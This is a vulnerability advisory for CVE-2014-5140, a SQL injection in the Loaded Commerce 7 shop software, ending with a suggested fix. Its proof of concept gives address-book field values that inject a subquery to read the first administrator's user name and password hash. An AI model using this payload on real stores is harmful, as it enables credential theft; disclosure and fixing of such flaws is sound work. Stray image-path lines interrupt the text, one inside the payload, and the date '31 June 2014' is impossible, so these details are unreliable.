LoadedCommerce7 - Systemic Query Factory







Title:     LoadedCommerce7 Systemic Query Factory Vulnerability

Advisory:  http://breaking.technology/advisories/CVE-2014-5140.txt

Credits:   Discovered by Breaking Technology ResearchLabs 2014-06-30

Reference: CVE-2014-5140 - Assigned 31 June 2014

           Vendor notified - 29 July 2014
           Vendor confirmed exploit 30 July 2014

Severity:           Critical
Attack Complexity:  Minimal
Classification:     SQL injection, unsafe string replacement


    Loaded Commerce 7 shopping cart/online store suffers from a systemic vulnerability in its query factory, allowing attackers to circumvent user input sanitizing to perform remote SQL injection.

Proof of Concept:

    Have a valid customer account and create a new contact in your address book using the following values.

    First name: :entry_lastname,
    Last Name : ,(selectuser_name from lc_administrators order by id asc limit 1),(select user_password from lc_administrators order by id asc limit 1),3,4,5,6,7,8,9,10)#The new contact will be added to your address book with the admin hash as the contact's street address

Suggested Fix:
    Sanitize all user input before using it as any part of a query-- specifically remove or encode the colon (:) character before passing it to a query value.  A similar fix was issued for tomatocart, available at